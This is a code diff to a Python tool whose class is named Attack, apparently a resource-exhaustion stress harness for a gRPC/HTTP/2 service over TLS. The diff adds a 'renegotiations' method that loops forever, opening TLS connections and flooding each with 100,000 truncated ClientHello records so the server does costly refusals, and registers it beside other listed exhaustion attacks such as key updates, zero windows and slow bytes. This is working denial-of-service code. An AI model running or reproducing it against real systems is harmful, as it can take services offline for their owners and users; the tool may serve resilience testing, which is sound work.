@@ -17,6 +17,7 @@ import time
 
 import grpc
 
+import tls_raw
 from h2raw import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, HELLO, PING, PRIORITIZED, PRIORITY, RST, SETTINGS, WINDOW,
                    call, connect, frame, headers, literal, message, settings, tls_context)
 
@@ -32,6 +33,14 @@ def channel_to(host, port, tls=None):
     if tls:
         return grpc.secure_channel(f"{host}:{port}", grpc.ssl_channel_credentials(open(tls[0], "rb").read()), options=opts)
     return grpc.insecure_channel(f"{host}:{port}", options=opts)
+
+
+def received(s):
+    """b"" at the end, whatever it is."""
+    try:
+        return s.recv(1 << 16)
+    except OSError:
+        return b""
 
 
 def varint(n):
@@ -408,6 +417,24 @@ class Attack:
 
     # -- what only TLS has: by OpenSSL itself, since Python's module does not hand it on --
 
+    def renegotiations(self):
+        """Asks for another handshake in TLS 1.2 without end. Each is refused, by a word that costs more than to ask for it."""
+        begin_one = b"\1\0\0\0"  # the head of a ClientHello is enough
+        while True:
+            try:
+                c = tls_raw.Client(self.host, self.port)
+            except OSError:
+                self.refused += 1
+                continue
+            what = b"".join(c.record(tls_raw.HANDSHAKE, begin_one) for _ in range(100000))
+            threading.Thread(target=lambda s=c.socket: [None for _ in iter(lambda: received(s), b"")], daemon=True).start()
+            try:
+                c.socket.sendall(what)
+                self.sent += len(what)
+            except OSError:
+                self.refused += 1
+            c.close()
+
     def key_updates(self):
         """New keys without end (RFC 8446, 4.6.3): none of it is a byte for who reads."""
         tls = ctypes.CDLL("libssl.so.3")
@@ -445,7 +472,7 @@ COST_LOOP = ["empty_data", "pings", "settings", "window_updates", "priorities", 
 COST_MEMORY = ["unread_ranges", "zero_windows", "one_byte_windows", "large_answers_to_writes", "half_messages", "half_watches",
                "refused_watches", "watches", "old_values", "unread_by_many", "unread_txns_of_many"]
 COST_CONNECTIONS = ["idle", "come_and_go", "slow_bytes"]
-COST_TLS = ["key_updates"]
+COST_TLS = ["key_updates", "renegotiations"]
 ALL = COST_LOOP + COST_MEMORY + COST_CONNECTIONS + ["logins"]
 # That leave the keys alone, and are at their height at once.
 MILD = [a for a in ALL if a not in ("costly_txns", "large_answers_to_writes", "watches", "old_values", "lease_lists", "lock_crowds", "logins")]
